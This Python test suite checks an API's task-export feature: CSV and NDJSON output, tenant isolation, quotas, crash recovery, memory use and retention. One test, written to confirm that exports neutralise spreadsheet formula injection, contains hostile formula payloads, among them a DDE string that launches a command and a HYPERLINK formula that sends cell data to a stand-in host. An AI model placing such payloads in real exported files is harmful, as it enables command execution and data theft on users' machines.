# SPDX-License-Identifier: Apache-2.0
"""Exports from the request to the file: what is in it, who may have it, and that it comes whole or not at all, though the
worker be killed. The stack's worker is told to end first; each test has those that it needs."""
import contextlib
import csv
import http.client
import io
import json
import os
import pathlib
import re
import signal
import uuid

import pytest

from api_client import TIME, UUID, assert_problem, pointers, unique
from metrics_page import Metrics
from programs import wait_for
from worker_stack import column, enqueue, state, wait_for_state, worker

pytestmark = pytest.mark.usefixtures("own_workers")

COLUMNS = ["id", "title", "description", "completed", "priority", "due_at", "version", "created_at", "updated_at"]
FORMATS = ("csv", "ndjson")
MANY = int(os.environ.get("EXPORT_TASKS", "200000"))
MOST_GROWTH = 32 * 1024  # KiB, of a process that exports or sends tens of megabytes


@pytest.fixture
def tenant(stack, api):
    """A tenant of the test's own: its slug and one of its people."""
    slug = unique("exports")
    stack.create_tenant(slug)
    return slug, api.asking(tenant=slug).sign_up()


def ask(person, file_format, **more):
    answer = person.post("/api/exports", {"kind": "tasks", "format": file_format}, **more)
    assert answer.status == 202, answer
    return answer.json["id"]


def finished(person, identity, seconds=90):
    """The export once it has come to its end."""
    return wait_for(lambda: (seen := person.get(f"/api/exports/{identity}").json)["state"]
                    in ("succeeded", "failed", "cancelled") and seen, seconds)


def content(person, identity):
    answer = person.get(f"/api/exports/{identity}/content")
    assert answer.status == 200, answer
    return answer.body.decode()


def read_csv(text):
    """The rows, as whoever goes by RFC 4180 reads them."""
    assert text.endswith("\r\n")
    head, *rows = csv.reader(io.StringIO(text, newline=""), strict=True)
    assert head == COLUMNS
    return [dict(zip(COLUMNS, row, strict=True)) for row in rows]


def insert_tasks(stack, slug, person, count):
    stack.sql(slug, "insert into tasks (id, user_id, title, description, created_at) select gen_random_uuid(), "
                    f"'{person.user['id']}', 'task ' || n, repeat('description ', 8) || n, now() - n * interval '1 second' "
                    f"from generate_series(1, {count}) n")


def files_of(stack, slug):
    folder = pathlib.Path(stack.env["STORAGE_URL"].removeprefix("file://"))
    return list((folder / stack.control(f"select id from tenants where slug = '{slug}'") / "exports").glob("*"))


def run_retention(stack, slug):
    job = enqueue(stack, "export.retention", slug)
    wait_for_state(stack, job, "succeeded", slug)


def test_both_formats_say_what_the_api_says(stack, tenant):
    slug, person = tenant
    for members in ({"title": "plain"}, {"title": "a, \"b\"; c", "description": "two\nlines, Grüße \U0001F6A2"},
                    {"title": "due", "priority": "high", "due_at": "2031-02-03T04:05:06.789Z", "completed": True}):
        assert person.post("/api/tasks", members).status == 201
    tasks = person.get("/api/tasks", limit=100).json["items"]
    with worker(stack):
        made = {name: finished(person, ask(person, name)) for name in FORMATS}
    for name, export in made.items():
        text = content(person, export["id"])
        assert {key: export[key] for key in ("kind", "format", "state", "progress", "error", "rows", "bytes")} == {
            "kind": "tasks", "format": name, "state": "succeeded", "progress": 100, "error": None, "rows": 3,
            "bytes": len(text.encode())}
        assert all(TIME.match(export[key]) for key in ("created_at", "finished_at", "expires_at")) and UUID.match(export["id"])
        job = person.get(f"/api/jobs/{export['id']}").json
        assert (job["kind"], job["state"]) == ("export.tasks", "succeeded")
    lines = content(person, made["ndjson"]["id"])
    assert lines.endswith("\n") and [json.loads(line) for line in lines.splitlines()] == tasks
    as_text = {None: "", True: "true", False: "false"}
    assert read_csv(content(person, made["csv"]["id"])) == [
        {key: as_text[value] if value is None or isinstance(value, bool) else str(value) for key, value in task.items()}
        for task in tasks]
    for name, media_type in (("csv", "text/csv; charset=utf-8"), ("ndjson", "application/x-ndjson")):
        answer = person.get(f"/api/exports/{made[name]['id']}/content")
        assert answer.headers["Content-Type"] == media_type
        assert answer.headers["Content-Length"] == str(len(answer.body))
        assert re.fullmatch(rf'attachment; filename="tasks-\d{{4}}-\d\d-\d\d\.{name}"', answer.headers["Content-Disposition"])


def test_no_cell_is_a_formula(stack, tenant):
    _, person = tenant
    texts = ["=1+1", "+1", "-1+cmd|' /C calc'!A0", "@SUM(1;2)", "=HYPERLINK(\"http://x.test/?\"&A1)", "\t=1", "\r=1", "'=1"]
    for text in texts:
        assert person.post("/api/tasks", {"title": "a title", "description": text}).status == 201
    plain = [text for text in texts if text[0] not in "\t\r"]
    for text in plain:
        assert person.post("/api/tasks", {"title": text}).status == 201
    with worker(stack):
        made = {name: finished(person, ask(person, name)) for name in FORMATS}
    rows = read_csv(content(person, made["csv"]["id"]))
    assert not [cell for row in rows for cell in row.values() if cell[:1] and cell[0] in "=+-@\t\r"]
    cells = {cell for row in rows for cell in (row["title"], row["description"])}
    assert {f"'{text}" for text in plain if not text.startswith("'")} <= cells
    assert {text.replace("'", "") for text in texts} <= {cell.replace("'", "") for cell in cells}
    written = [json.loads(line) for line in content(person, made["ndjson"]["id"]).splitlines()]
    assert set(texts) <= {task["description"] for task in written} and set(plain) <= {task["title"] for task in written}


def test_nobody_elses(stack, api, tenant):
    """Not another user's, not an owner's, not another tenant's; and of nobody's tasks but one's own."""
    slug, person = tenant
    other, abroad = api.asking(tenant=slug).sign_up(), api.asking(tenant="acme").sign_up()
    stack.sql(slug, f"update users set role = 'owner' where id = '{other.user['id']}'")
    owner = api.asking(tenant=slug).post("/api/auth/login", {"email": other.email, "password": "correct horse battery staple"})
    owner = other.asking(token=owner.json["access_token"])
    for each in (person, other):
        assert each.post("/api/tasks", {"title": f"of {each.email}"}).status == 201
    with worker(stack):
        made = finished(person, ask(person, "ndjson"))
    assert [json.loads(line)["title"] for line in content(person, made["id"]).splitlines()] == [f"of {person.email}"]
    for path in (f"/api/exports/{made['id']}", f"/api/exports/{made['id']}/content"):
        for stranger in (other, owner, abroad):
            assert_problem(stranger.get(path), 404, "not-found")
        assert person.asking(token=None).get(path).status == 401
        assert_problem(person.get(path.replace(made["id"], str(uuid.uuid4()))), 404, "not-found")


def test_what_is_asked_for_is_checked(api):
    person = api.sign_up()
    assert pointers(person.post("/api/exports", {"kind": "users", "format": "csv"})) == ["/kind"]
    assert pointers(person.post("/api/exports", {"kind": "tasks", "format": "xlsx"})) == ["/format"]
    assert pointers(person.post("/api/exports", {"kind": "tasks", "format": "csv", "user": "x"})) == ["/user"]
    assert api.post("/api/exports", {"kind": "tasks", "format": "csv"}).status == 401


def test_before_it_is_done(stack, tenant):
    """Without a worker exports wait; five of a user at most. A repeated request makes no second one."""
    slug, person = tenant
    key = {"Idempotency-Key": '"once"'}
    answer = person.post("/api/exports", {"kind": "tasks", "format": "csv"}, headers=key)
    first = answer.json
    assert answer.status == 202 and answer.headers["Location"] == f"/api/exports/{first['id']}", answer
    assert (first["state"], first["progress"]) == ("pending", 0)
    assert not [key for key in ("rows", "bytes", "finished_at", "expires_at", "error") if first[key] is not None]
    again = person.post("/api/exports", {"kind": "tasks", "format": "csv"}, headers=key)
    assert (again.status, again.json["id"]) == (202, first["id"])
    assert_problem(person.get(f"/api/exports/{first['id']}/content"), 409, "conflict")
    others = [ask(person, "csv") for _ in range(4)]
    assert_problem(person.post("/api/exports", {"kind": "tasks", "format": "csv"}), 409, "conflict")
    assert person.post(f"/api/jobs/{others[0]}/cancel").json["state"] == "cancelled"
    assert person.get(f"/api/exports/{others[0]}").json["state"] == "cancelled"
    assert_problem(person.get(f"/api/exports/{others[0]}/content"), 409, "conflict")
    with worker(stack):
        assert finished(person, first["id"])["state"] == "succeeded"
        assert [finished(person, each)["state"] for each in others[1:]] == ["succeeded"] * 3
    assert person.get(f"/api/exports/{others[0]}").json["state"] == "cancelled"
    assert len(files_of(stack, slug)) == 4


@pytest.mark.parametrize("limits", [{"jobs_in_flight": 1}, {"storage_bytes": 1}])
def test_quotas(stack, tenant, limits):
    slug, person = tenant
    waiting = ask(person, "csv")
    stack.control(f"update tenants set limits = '{json.dumps(limits)}', storage_bytes = 10 where slug = '{slug}'")
    wait_for(lambda: person.post("/api/exports", {"kind": "tasks", "format": "csv"}).status == 403)
    assert_problem(person.post("/api/exports", {"kind": "tasks", "format": "csv"}), 403, "quota-exceeded")
    stack.control(f"update tenants set limits = '{{}}' where slug = '{slug}'")
    wait_for(lambda: person.post(f"/api/jobs/{waiting}/cancel").status == 200)  # or the next worker would make it


@pytest.mark.parametrize("point", ["export.after-page", "export.after-file", "queue.after-commit"])
def test_a_worker_that_is_killed_leaves_one_whole_file(stack, tenant, point):
    slug, person = tenant
    insert_tasks(stack, slug, person, 1500)
    with worker(stack, BULKHEAD_FAIL_POINT=point, WORKER_THREADS="1") as first:
        identity = ask(person, "ndjson")
        assert first.process.wait(60) == -signal.SIGKILL
    early = person.get(f"/api/exports/{identity}").json["state"]
    assert early == ("succeeded" if point == "queue.after-commit" else "running")
    if early == "running":
        assert_problem(person.get(f"/api/exports/{identity}/content"), 409, "conflict")
    with worker(stack):
        assert finished(person, identity)["state"] == "succeeded"
        titles = [json.loads(line)["title"] for line in content(person, identity).splitlines()]
        assert titles == [f"task {n}" for n in range(1, 1501)]
        assert column(stack, identity, "attempt", slug) == "1"
        assert stack.sql(slug, "select count(*) from exports").strip() == "1"
        # What the first run wrote is found by its note, once it is old enough to be nobody's.
        wait_for(lambda: state(stack, identity, slug) == "succeeded")
        stack.sql(slug, "update export_files set created_at = now() - interval '2 hours'")
        run_retention(stack, slug)
        kept = stack.sql(slug, "select file from exports").strip()
        assert [each.name for each in files_of(stack, slug)] == [kept]
        assert stack.sql(slug, "select id from export_files").strip() == kept
        assert len(content(person, identity).splitlines()) == 1500


def highest_memory(pid):
    """KiB."""
    return int(re.search(r"VmHWM:\s+(\d+) kB", pathlib.Path(f"/proc/{pid}/status").read_text())[1])


@contextlib.contextmanager
def streamed(person, identity):
    """The answer, of which nothing is read yet."""
    connection = http.client.HTTPConnection(person.host, person.port, timeout=60)
    try:
        connection.request("GET", f"/api/exports/{identity}/content", headers={"Authorization": f"Bearer {person.token}"})
        yield connection.getresponse()
    finally:
        connection.close()


def is_sanitized(stack):
    return b"Sanitizer" in (stack.bin / "bulkhead-worker").read_bytes()


def test_memory_does_not_depend_on_the_size(stack, api, tenant):
    slug, person = tenant
    other = api.asking(tenant=slug).sign_up()
    insert_tasks(stack, slug, person, MANY)
    insert_tasks(stack, slug, other, 1000)
    with worker(stack, WORKER_THREADS="1") as running:
        small = finished(other, ask(other, "ndjson"))  # what is there from the first one on
        content(other, small["id"])
        before, sending_before = highest_memory(running.process.pid), highest_memory(stack.api_pid())
        made = finished(person, ask(person, "ndjson"), 240)
        assert (made["state"], made["rows"]) == ("succeeded", MANY)
        grown = highest_memory(running.process.pid) - before
    size = 0
    with streamed(person, made["id"]) as answer:
        assert answer.status == 200
        lines = 0
        while piece := answer.read(65536):
            size, lines = size + len(piece), lines + piece.count(b"\n")
    assert (size, lines) == (made["bytes"], MANY) and size > 200 * MANY
    sending = highest_memory(stack.api_pid()) - sending_before
    print(f"{size} bytes: the worker's highest memory grew by {grown} KiB, the API's by {sending} KiB")
    assert Metrics(stack.ops_url)("bulkhead_storage_bytes_total", direction="read") >= size
    if not is_sanitized(stack):  # which keep what is freed
        assert grown < MOST_GROWTH and sending < MOST_GROWTH


def test_clients_that_go_away_leave_nothing_open(stack, tenant):
    slug, person = tenant
    insert_tasks(stack, slug, person, 20_000)
    with worker(stack):
        made = finished(person, ask(person, "ndjson"))
    assert made["bytes"] > 4_000_000

    def open_files():
        folder = f"/proc/{stack.api_pid()}/fd"
        return sum(1 for each in os.listdir(folder) if made_here(os.path.join(folder, each)))

    def made_here(link):
        with contextlib.suppress(FileNotFoundError):
            return os.readlink(link).startswith(stack.env["STORAGE_URL"].removeprefix("file://") + "/0")
        return False

    with contextlib.ExitStack() as all_of_them:
        for _ in range(10):
            answer = all_of_them.enter_context(streamed(person, made["id"]))
            assert answer.status == 200 and len(answer.read(1000)) == 1000
        assert open_files() == 10
    wait_for(lambda: open_files() == 0)
    assert len(content(person, made["id"]).splitlines()) == 20_000


def test_an_export_expires(stack, tenant):
    """Out of reach at once, then its file goes; others stay."""
    slug, person = tenant
    insert_tasks(stack, slug, person, 10)
    with worker(stack):
        gone, kept = (finished(person, ask(person, "csv"))["id"] for _ in range(2))
        stack.sql(slug, f"update exports set expires_at = now() where id = '{gone}';"
                        "update export_files set created_at = now() - interval '2 hours'")
        for path in (f"/api/exports/{gone}", f"/api/exports/{gone}/content"):
            assert_problem(person.get(path), 404, "not-found")
        assert len(files_of(stack, slug)) == 2
        run_retention(stack, slug)
        assert [each.name for each in files_of(stack, slug)] == [
            stack.sql(slug, f"select file from exports where id = '{kept}'").strip()]
        assert stack.sql(slug, "select count(*) from exports").strip() == "1"
        assert len(read_csv(content(person, kept))) == 10


def test_a_purge_removes_the_files(stack, api, tenant):
    """Those of the tenant, and the certificate says so."""
    slug, person = tenant
    neighbour = unique("exports")
    stack.create_tenant(neighbour)
    abroad = api.asking(tenant=neighbour).sign_up()
    with worker(stack):
        for each in (person, abroad):
            assert finished(each, ask(each, "csv"))["state"] == "succeeded"
    folder = files_of(stack, slug)[0].parents[1]
    stack.migrate("tenant", "delete", slug, f"--confirm={slug}")
    assert folder.exists()  # it could come back
    certificate = json.loads(stack.migrate("tenant", "purge", slug, f"--confirm={slug}", "--json").splitlines()[0])
    assert not folder.exists() and len(files_of(stack, neighbour)) == 1
    assert "files" in certificate["destroyed"] and certificate["files_removed_from"] == str(folder.parent)


def test_retention_comes_by_itself(stack):
    """The schedule has been seen to for every tenant; one that was there from the beginning has had the time."""
    with worker(stack):
        wait_for(lambda: "export.retention" in stack.sql("acme", "select * from job_schedules"), 150)
